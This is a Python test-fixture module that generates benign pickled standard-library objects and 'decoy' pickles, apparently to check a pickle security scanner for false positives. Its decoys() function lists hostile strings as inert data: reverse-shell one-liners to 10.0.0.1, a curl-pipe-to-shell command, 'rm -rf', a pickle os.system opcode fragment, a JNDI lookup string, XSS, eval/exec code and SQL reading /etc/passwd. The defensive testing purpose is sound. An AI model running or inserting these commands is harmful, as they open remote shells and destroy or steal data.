"""Benign samples of standard library objects, decoy texts and decoy bytes."""
import argparse
import array
import collections
import copy
import datetime
import decimal
import enum
import fractions
import functools
import http
import ipaddress
import itertools
import operator
import pathlib
import pickle
import pickletools
import random
import re
import string
import types
import typing
import uuid

GROUP = "stdlib"
TOP = pickle.HIGHEST_PROTOCOL


def objects():
    utc = datetime.timezone.utc
    rng = random.Random(11)
    yield "ordereddict", collections.OrderedDict((("b", 1), ("a", [2, 3]), ("c", None)))
    yield "defaultdict-int", collections.defaultdict(int, a=1, b=2)
    yield "defaultdict-list", collections.defaultdict(list, a=[1], b=[2, 3])
    yield "counter", collections.Counter("abracadabra")
    yield "deque", collections.deque([1, 2, 3], maxlen=5)
    yield "chainmap", collections.ChainMap({"a": 1}, {"b": 2})
    yield "userdict", collections.UserDict(a=1)
    yield "userlist", collections.UserList([1, 2])
    yield "userstring", collections.UserString("text")
    yield "datetimes", [datetime.datetime(2024, 2, 29, 12, 30, 1, 5, utc), datetime.date(1999, 12, 31),
                        datetime.time(23, 59, 58, 7), datetime.timedelta(days=3, seconds=5),
                        datetime.timezone(datetime.timedelta(hours=2), "X")]
    yield "decimals", [decimal.Decimal("1.25"), decimal.Decimal("NaN"), decimal.Decimal("-1E+400")]
    yield "fraction", fractions.Fraction(22, 7)
    yield "uuid", uuid.UUID(int=0x12345678123456781234567812345678)
    yield "paths", [pathlib.PurePosixPath("/usr/share/data"), pathlib.PureWindowsPath("C:/models/x.bin"),
                    pathlib.PurePosixPath("runs/train/exp")]
    yield "posixpath", {"save_dir": pathlib.Path("runs/train/exp2")}
    yield "sets", [{1, 2, 3}, frozenset((4, 5)), {"a"}, set()]
    yield "bytes", [b"", b"abc\x00\xff", bytearray(b"xyz")]
    yield "complex", [1 + 2j, complex("inf")]
    yield "numbers", [0, -1, 255, 256, 65535, 65536, 2**31, -2**31, 2**63, -2**200, 2**3000, 1.5, float("inf")]
    yield "singletons", [None, True, False, Ellipsis, NotImplemented, type(None), type(Ellipsis)]
    yield "ranges", [range(10), slice(1, 9, 2), range(0, -5, -1)]
    yield "namespace", argparse.Namespace(lr=0.1, epochs=3, name="run", device="cpu", seed=None)
    yield "simplenamespace", types.SimpleNamespace(a=1, b=[2])
    yield "array", [array.array("d", [1.0, 2.0]), array.array("i", [1, 2, 3]), array.array("B", b"xyz")]
    yield "random-state", rng
    yield "random-getstate", rng.getstate()
    yield "regex", [re.compile(r"\w+\s*=\s*(\d+)", re.I | re.M), re.compile(rb"[a-z]+")]
    yield "enum-members", [http.HTTPStatus.OK, re.IGNORECASE, uuid.SafeUUID.unknown]
    yield "addresses", [ipaddress.ip_address("10.0.0.1"), ipaddress.ip_network("fe80::/64")]
    yield "template", string.Template("$who likes $what")
    yield "partial-int", functools.partial(int, base=2)
    yield "itemgetter", operator.itemgetter(1, "a")
    yield "attrgetter", operator.attrgetter("name", "shape.rank")
    yield "methodcaller", operator.methodcaller("lower")
    yield "iterators", [iter([1, 2, 3]), iter((4, 5)), iter(range(3)), enumerate(["a", "b"]), zip([1], [2])]
    yield "typing", [typing.List[int], typing.Dict[str, float], typing.Optional[int], typing.Any]
    yield "functions-as-data", {"len": len, "max": max, "sorted": sorted}
    yield "types-as-data", {"int": int, "float": float, "str": str, "dict": dict, "od": collections.OrderedDict}
    yield "exceptions", [ValueError("bad value"), KeyError("k"), OSError(2, "No such file", "x.bin"), StopIteration()]
    shared = ["shared"]
    yield "shared-and-recursive", [shared, shared, {"again": shared}]
    loop = [1]
    loop.append(loop)
    yield "recursive-list", loop
    loopd = {}
    loopd["self"] = loopd
    yield "recursive-dict", loopd
    deep = 0
    for _ in range(150):
        deep = [deep]
    yield "deep-nesting", deep
    yield "wide-dict", {"key%05d" % i: i for i in range(3000)}
    yield "long-text", "lorem ipsum " * 20000
    yield "unicode", ["\u4f60\u597d", "\u0437\u0434\u0440\u0430\u0432\u0435\u0439", "\U0001f600", "a\u0000b", "\ud7ff"]
    yield "tuples", [(), (1,), (1, 2), (1, 2, 3), tuple(range(100))]
    yield "vocab", {w: i for i, w in enumerate("the of and to in a is that for it as was".split())}
    yield "mixed-config", {"model": {"layers": [64, 64], "act": "relu"}, "train": {"lr": 1e-3, "betas": (0.9, 0.999)},
                           "when": datetime.date(2023, 5, 4), "ids": {1, 5, 9}, "raw": b"\x00" * 64}
    yield "copy-of-struct", copy.deepcopy({"a": [1, {"b": (2, 3)}]})


def decoys():
    yield "names-of-callables", ["os.system", "posix system", "subprocess.Popen", "builtins.eval", "__builtin__ exec",
                                 "nt.system", "importlib.import_module", "__reduce__", "cos\nsystem\n(S'id'\ntR."]
    yield "shell-history", ["rm -rf /tmp/build", "curl http://example.com/install.sh | sh", "nc -e /bin/sh 10.0.0.1 4444",
                            "powershell -enc AAAA", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"]
    yield "metrics", {"eval_loss": 0.1, "eval": 1, "exec_time": 2.5, "system": "linux", "compile": True, "open": 3,
                      "getattr": "x", "import_error_rate": 0.0, "subprocess_count": 2}
    yield "urls", ["https://example.com/model.bin", "http://localhost:8080/x?y=z", "ftp://host/path", "s3://bucket/key"]
    yield "code-dataset", ["import os\nos.system('ls')\n", "eval(input())", "def f():\n    exec(open('x').read())\n",
                           "__import__('subprocess').check_output(['id'])", "<script>alert(1)</script>"]
    yield "keys-like-globals", {"posix": {"system": 1}, "builtins": {"eval": "no"}, "c": "cos\nsystem"}
    yield "pickle-bytes", {"blob": pickle.dumps({"inner": [1, 2, 3]}), "old": pickle.dumps([1], 0)}
    yield "pickle-prefix-bytes", [b"\x80\x04\x95", b"\x80\x02}q\x00.", b"(lp0\n.", b"cposix", b"\x80"]
    yield "zip-magic-bytes", [b"PK\x03\x04 not a zip", b"\x1f\x8b\x08 not a gzip", b"\x7fELF not a program", b"MZ"]
    yield "base64-text", "aW1wb3J0IG9zO29zLnN5c3RlbSgnbHMnKQ=="
    yield "templates", ["{{ messages }}", "{% for m in messages %}{{ m.content }}{% endfor %}", "${jndi:ldap://x}"]
    yield "dunder-names", ["__class__", "__globals__", "__subclasses__", "__mro__", "__init__", "__reduce_ex__"]
    yield "sentences", ["The system can open the door.", "Please evaluate the exec board.", "Run, Forest, run!"] * 30
    yield "email-texts", ["From: a@example.com\nSubject: import os\n\nsubprocess call me back"] * 5
    yield "sql", ["SELECT load_file('/etc/passwd')", "DROP TABLE users; --"]


def samples(w):
    import sys
    objs = list(objects())
    for i, (name, obj) in enumerate(objs):
        protos = range(0, TOP + 1) if i % 6 == 0 else (i % (TOP + 1), TOP) if i % (TOP + 1) != TOP else (0, TOP)
        for p in protos:
            try:
                data = pickle.dumps(obj, p)
            except Exception as e:
                w.skip("%s protocol %d" % (name, p), repr(e))
                continue
            w.add(GROUP, "%s-p%d" % (name, p), "object.pkl", data, "stdlib-object", "protocol %d" % p)
    for i, (name, obj) in enumerate(decoys()):
        for p in (i % 3, TOP):
            w.add("decoy", "%s-p%d" % (name, p), "data.pkl", pickle.dumps(obj, p), "decoy-data",
                  "plain data that names dangerous things")
    # the slow pickler written in Python, and the optimizer, make other opcode sequences
    import io
    for name, obj in objs[:12]:
        buf = io.BytesIO()
        pickle._Pickler(buf, 2).dump(obj)
        w.add(GROUP, name + "-pypickler", "object.pickle", buf.getvalue(), "pure-python-pickler", "")
    for name, obj in objs[20:26]:
        w.add(GROUP, name + "-optimized", "object.pkl", pickletools.optimize(pickle.dumps(obj, 4)), "optimized-pickle", "")
    w.add(GROUP, "three-streams", "streams.pkl", b"".join(pickle.dumps(x, p) for x, p in (({"a": 1}, 0), ([1, 2], 2), ("x", 4))),
          "several-streams", "three pickles one after the other")
    w.add(GROUP, "buffer-callback", "oob.pkl", pickle.dumps(pickle.PickleBuffer(b"abc" * 50), 5) if TOP >= 5 else pickle.dumps(b"abc"),
          "pickle-buffer", "")
    w.add(GROUP, "itertools", "it.pkl", pickle.dumps([itertools.count(5)] if sys.version_info < (3, 14) else [1]), "stdlib-object", "")
    w.add(GROUP, "big-framed", "framed.pkl", pickle.dumps([("row %d" % i, i, i / 3) for i in range(8000)], 4), "many-frames", "")
